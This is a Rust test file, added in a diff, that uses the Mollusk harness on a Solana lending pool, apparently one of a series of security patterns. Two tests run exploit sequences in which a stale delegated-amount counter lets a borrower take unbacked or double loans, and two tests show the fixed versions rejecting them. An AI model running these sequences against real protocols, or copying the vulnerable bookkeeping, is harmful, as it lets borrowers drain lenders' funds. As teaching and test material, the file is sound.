@@ -0,0 +1,506 @@
+/// # Pattern 212: Delegated Amount Desync — Mollusk Exploit Tests
+///
+/// The pool holds 100 SOL to lend and an empty vault. The borrower has 10
+/// SOL worth of the pool's token in their wallet, a second token account
+/// of their own, and an empty position. Each test starts with the
+/// borrower committing the whole wallet: the pool becomes its delegate.
+///
+/// - Test 1: EXPLOIT (delegate-signed) — a keeper pulls the commitment in
+///   through top_up_vulnerable. SPL Token spends the approval, the pool's
+///   counter doesn't notice, and borrow_vulnerable lends 10 SOL against 10
+///   SOL of tokens.
+/// - Test 2: EXPLOIT (owner-signed) — the borrower moves the tokens to
+///   their other account. The approval is untouched, the wallet is empty,
+///   and borrow_vulnerable lends 5 SOL against nothing.
+/// - Test 3: SECURE (delegate-signed) — top_up_secure reloads the wallet
+///   and drops the spent commitment. Only half the deposit can be borrowed.
+/// - Test 4: SECURE (owner-signed) — borrow_secure rebuilds the commitment
+///   from the empty wallet and refuses to lend.
+///
+/// The program must be built into SBF_OUT_DIR next to `spl_token.so`.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{
+    account_discriminator, executable_account, ix_discriminator, owned_account, system_account,
+    Ledger,
+};
+use test_harness::token::{Mint, TokenAccount};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("2BtWpQ7ceoLcUbvYpzAPa2mFC7sJRBGatfkn7xqFset1");
+const TOKEN_PROGRAM_ID: Pubkey = solana_sdk::pubkey!("TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA");
+
+const SOL: u64 = 1_000_000_000;
+const RENT: u64 = 2_000_000;
+const TOKEN_RENT: u64 = 2_039_280;
+const MINT_RENT: u64 = 1_461_600;
+const WALLET: u64 = 10 * SOL;
+/// Lamports the pool has to lend, on top of its rent.
+const LIQUIDITY: u64 = 100 * SOL;
+
+const DECIMALS: u8 = 9;
+/// Tokens in the borrower's wallet, valued at par with SOL.
+const HELD: u64 = 10 * SOL;
+
+// Error codes
+const EXCEEDS_BORROW_LIMIT: u32 = 6000;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Pool account:
+///   [8 disc][32 mint][32 vault][1 bump]
+fn serialize_pool(mint: &Pubkey, vault: &Pubkey, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(73);
+    data.extend_from_slice(&account_discriminator("Pool"));
+    data.extend_from_slice(mint.as_ref());
+    data.extend_from_slice(vault.as_ref());
+    data.push(bump);
+    data
+}
+
+/// Serialize a Position account:
+///   [8 disc][32 pool][32 owner][32 user_token][8 deposited][8 committed]
+///   [8 borrowed][1 bump]
+fn serialize_position(
+    pool: &Pubkey,
+    owner: &Pubkey,
+    user_token: &Pubkey,
+    amounts: [u64; 3],
+    bump: u8,
+) -> Vec<u8> {
+    let mut data = Vec::with_capacity(129);
+    data.extend_from_slice(&account_discriminator("Position"));
+    data.extend_from_slice(pool.as_ref());
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(user_token.as_ref());
+    for amount in amounts {
+        data.extend_from_slice(&amount.to_le_bytes());
+    }
+    data.push(bump);
+    data
+}
+
+/// Serialize an SPL Token mint with no authorities.
+fn serialize_mint(supply: u64) -> Vec<u8> {
+    Mint {
+        supply,
+        decimals: DECIMALS,
+        ..Mint::default()
+    }
+    .pack()
+}
+
+/// Serialize an SPL Token account, with `delegate` approved for an amount.
+fn serialize_token_account(
+    mint: &Pubkey,
+    owner: &Pubkey,
+    amount: u64,
+    delegate: Option<(&Pubkey, u64)>,
+) -> Vec<u8> {
+    TokenAccount {
+        delegate: delegate.map(|(key, amount)| (*key, amount)),
+        ..TokenAccount::new(mint, owner, amount)
+    }
+    .pack()
+}
+
+/// SPL Token's Transfer, signed by `authority` as owner or delegate.
+fn spl_transfer(from: &Pubkey, to: &Pubkey, authority: &Pubkey, amount: u64) -> Instruction {
+    let mut data = vec![3]; // TokenInstruction::Transfer
+    data.extend_from_slice(&amount.to_le_bytes());
+    Instruction::new_with_bytes(
+        TOKEN_PROGRAM_ID,
+        &data,
+        vec![
+            AccountMeta::new(*from, false),
+            AccountMeta::new(*to, false),
+            AccountMeta::new_readonly(*authority, true),
+        ],
+    )
+}
+
+struct Setup {
+    mollusk: Mollusk,
+    pool: Pubkey,
+    mint: Pubkey,
+    vault: Pubkey,
+    borrower: Pubkey,
+    borrower_token: Pubkey,
+    stash_token: Pubkey,
+    position: Pubkey,
+    position_bump: u8,
+    ledger: Ledger,
+}
+
+impl Setup {
+    fn new() -> Self {
+        let mint = Pubkey::new_unique();
+        let vault = Pubkey::new_unique();
+        let borrower = Pubkey::new_unique();
+        let borrower_token = Pubkey::new_unique();
+        let stash_token = Pubkey::new_unique();
+        let (pool, pool_bump) =
+            Pubkey::find_program_address(&[b"pool", mint.as_ref()], &PROGRAM_ID);
+        let (position, position_bump) = Pubkey::find_program_address(
+            &[b"position", pool.as_ref(), borrower.as_ref()],
+            &PROGRAM_ID,
+        );
+
+        let ledger = vec![
+            (
+                pool,
+                owned_account(
+                    &serialize_pool(&mint, &vault, pool_bump),
+                    RENT + LIQUIDITY,
+                    &PROGRAM_ID,
+                ),
+            ),
+            (
+                mint,
+                owned_account(&serialize_mint(HELD), MINT_RENT, &TOKEN_PROGRAM_ID),
+            ),
+            (
+                vault,
+                owned_account(
+                    &serialize_token_account(&mint, &pool, 0, None),
+                    TOKEN_RENT,
+                    &TOKEN_PROGRAM_ID,
+                ),
+            ),
+            (borrower, system_account(WALLET)),
+            (
+                borrower_token,
+                owned_account(
+                    &serialize_token_account(&mint, &borrower, HELD, None),
+                    TOKEN_RENT,
+                    &TOKEN_PROGRAM_ID,
+                ),
+            ),
+            (
+                stash_token,
+                owned_account(
+                    &serialize_token_account(&mint, &borrower, 0, None),
+                    TOKEN_RENT,
+                    &TOKEN_PROGRAM_ID,
+                ),
+            ),
+            (
+                position,
+                owned_account(
+                    &serialize_position(&pool, &borrower, &borrower_token, [0; 3], position_bump),
+                    RENT,
+                    &PROGRAM_ID,
+                ),
+            ),
+            (
+                TOKEN_PROGRAM_ID,
+                executable_account(&solana_sdk::bpf_loader_upgradeable::id()),
+            ),
+        ];
+
+        let mut mollusk = Mollusk::new(&PROGRAM_ID, "delegated_amount_desync");
+        mollusk.add_program(
+            &TOKEN_PROGRAM_ID,
+            "spl_token",
+            &solana_sdk::bpf_loader_upgradeable::id(),
+        );
+
+        Self {
+            mollusk,
+            pool,
+            mint,
+            vault,
+            borrower,
+            borrower_token,
+            stash_token,
+            position,
+            position_bump,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    /// The borrower commits `amount` of their wallet to the pool.
+    fn commit(&self, amount: u64) -> Instruction {
+        let mut data = ix_discriminator("commit").to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new_readonly(self.pool, false),
+                AccountMeta::new(self.position, false),
+                AccountMeta::new(self.borrower_token, false),
+                AccountMeta::new_readonly(self.borrower, true),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+            ],
+        )
+    }
+
+    /// top_up_vulnerable / top_up_secure. Nobody signs but the fee payer.
+    fn top_up(&self, name: &str, amount: u64) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new_readonly(self.pool, false),
+                AccountMeta::new(self.vault, false),
+                AccountMeta::new(self.position, false),
+                AccountMeta::new(self.borrower_token, false),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+            ],
+        )
+    }
+
+    /// borrow_vulnerable / borrow_secure, signed by the borrower.
+    fn borrow(&self, name: &str, amount: u64) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.pool, false),
+                AccountMeta::new(self.position, false),
+                AccountMeta::new_readonly(self.borrower_token, false),
+                AccountMeta::new(self.borrower, true),
+            ],
+        )
+    }
+
+    /// The borrower moves the whole wallet to their other account,
+    /// signing as owner.
+    fn stash(&self) -> Instruction {
+        spl_transfer(
+            &self.borrower_token,
+            &self.stash_token,
+            &self.borrower,
+            HELD,
+        )
+    }
+
+    fn borrower_token_data(&self, amount: u64, approval: Option<u64>) -> Vec<u8> {
+        let delegate = approval.map(|delegated| (&self.pool, delegated));
+        serialize_token_account(&self.mint, &self.borrower, amount, delegate)
+    }
+
+    /// `[deposited, committed, borrowed]`
+    fn position_data(&self, amounts: [u64; 3]) -> Vec<u8> {
+        serialize_position(
+            &self.pool,
+            &self.borrower,
+            &self.borrower_token,
+            amounts,
+            self.position_bump,
+        )
+    }
+
+    /// The borrower commits their whole wallet.
+    fn commit_all(&mut self) {
+        let ix = self.commit(HELD);
+        let approved = self.borrower_token_data(HELD, Some(HELD));
+        let committed = self.position_data([0, HELD, 0]);
+        let (borrower_token, position) = (self.borrower_token, self.position);
+        self.ledger.step(
+            &self.mollusk,
+            &ix,
+            &[
+                Check::success(),
+                Check::account(&borrower_token).data(&approved).build(),
+                Check::account(&position).data(&committed).build(),
+            ],
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_delegate_pull_double_counts_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT (delegate-signed transfer):
+    //   1. Borrower: commit(10)
+    //   2. Keeper: top_up_vulnerable(10), the pool signing as delegate
+    //   3. Borrower: borrow_vulnerable(10 SOL)
+    //
+    // Expected: all SUCCEED. The top-up spends the approval, so SPL Token
+    //           clears the delegate, but the position still reads 10
+    //           committed next to 10 deposited. The borrower takes 10 SOL
+    //           against 10 tokens, twice what a 50% limit allows.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (pool, vault, borrower, borrower_token, position) =
+        (s.pool, s.vault, s.borrower, s.borrower_token, s.position);
+    s.commit_all();
+
+    let ix = s.top_up("top_up_vulnerable", HELD);
+    let spent = s.borrower_token_data(0, None);
+    let vault_held = serialize_token_account(&s.mint, &s.pool, HELD, None);
+    let stale = s.position_data([HELD, HELD, 0]);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&borrower_token).data(&spent).build(),
+            Check::account(&vault).data(&vault_held).build(),
+            Check::account(&position).data(&stale).build(),
+        ],
+    );
+
+    let ix = s.borrow("borrow_vulnerable", HELD);
+    let overdrawn = s.position_data([HELD, HELD, HELD]);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&position).data(&overdrawn).build(),
+            Check::account(&pool)
+                .lamports(RENT + LIQUIDITY - HELD)
+                .build(),
+            Check::account(&borrower).lamports(WALLET + HELD).build(),
+        ],
+    );
+}
+
+#[test]
+fn exploit_owner_transfer_leaves_empty_commitment_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT (owner-signed transfer):
+    //   1. Borrower: commit(10)
+    //   2. Borrower: SPL Token transfer of all 10 to their other account
+    //   3. Borrower: borrow_vulnerable(5 SOL)
+    //
+    // Expected: all SUCCEED. The owner's transfer leaves the pool delegate
+    //           for 10 over an empty balance. The position still counts 10
+    //           committed, and the borrower takes 5 SOL with nothing the
+    //           pool can pull.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (pool, borrower, borrower_token, stash_token, position) = (
+        s.pool,
+        s.borrower,
+        s.borrower_token,
+        s.stash_token,
+        s.position,
+    );
+    s.commit_all();
+
+    let ix = s.stash();
+    let hollow = s.borrower_token_data(0, Some(HELD));
+    let stashed = serialize_token_account(&s.mint, &s.borrower, HELD, None);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&borrower_token).data(&hollow).build(),
+            Check::account(&stash_token).data(&stashed).build(),
+        ],
+    );
+
+    let ix = s.borrow("borrow_vulnerable", HELD / 2);
+    let unbacked = s.position_data([0, HELD, HELD / 2]);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&position).data(&unbacked).build(),
+            Check::account(&pool)
+                .lamports(RENT + LIQUIDITY - HELD / 2)
+                .build(),
+            Check::account(&borrower)
+                .lamports(WALLET + HELD / 2)
+                .build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_top_up_reconciles_spent_approval() {
+    // -----------------------------------------------------------------------
+    // SECURE (delegate-signed transfer):
+    //   1. Borrower: commit(10)
+    //   2. Keeper: top_up_secure(10)
+    //   3. Borrower: borrow_secure(10 SOL), then borrow_secure(5 SOL)
+    //
+    // Expected: the top-up SUCCEEDS and, after reloading the wallet, sets
+    //           committed to 0. Borrowing 10 SOL FAILS with
+    //           ExceedsBorrowLimit (6000); 5 SOL, half the deposit,
+    //           SUCCEEDS.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (pool, borrower, position) = (s.pool, s.borrower, s.position);
+    s.commit_all();
+
+    let ix = s.top_up("top_up_secure", HELD);
+    let reconciled = s.position_data([HELD, 0, 0]);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&position).data(&reconciled).build(),
+        ],
+    );
+
+    let ix = s.borrow("borrow_secure", HELD);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(EXCEEDS_BORROW_LIMIT))],
+    );
+
+    let ix = s.borrow("borrow_secure", HELD / 2);
+    let borrowed = s.position_data([HELD, 0, HELD / 2]);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&position).data(&borrowed).build(),
+            Check::account(&pool)
+                .lamports(RENT + LIQUIDITY - HELD / 2)
+                .build(),
+            Check::account(&borrower)
+                .lamports(WALLET + HELD / 2)
+                .build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_borrow_reconciles_owner_transfer() {
+    // -----------------------------------------------------------------------
+    // SECURE (owner-signed transfer):
+    //   1. Borrower: commit(10)
+    //   2. Borrower: SPL Token transfer of all 10 to their other account
+    //   3. Borrower: borrow_secure(5 SOL)
+    //
+    // Expected: the transfer SUCCEEDS and the approval is still there, but
+    //           borrow_secure caps the commitment at the empty balance and
+    //           FAILS with ExceedsBorrowLimit (6000).
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    s.commit_all();
+
+    let ix = s.stash();
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+
+    let ix = s.borrow("borrow_secure", HELD / 2);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(EXCEEDS_BORROW_LIMIT))],
+    );
+}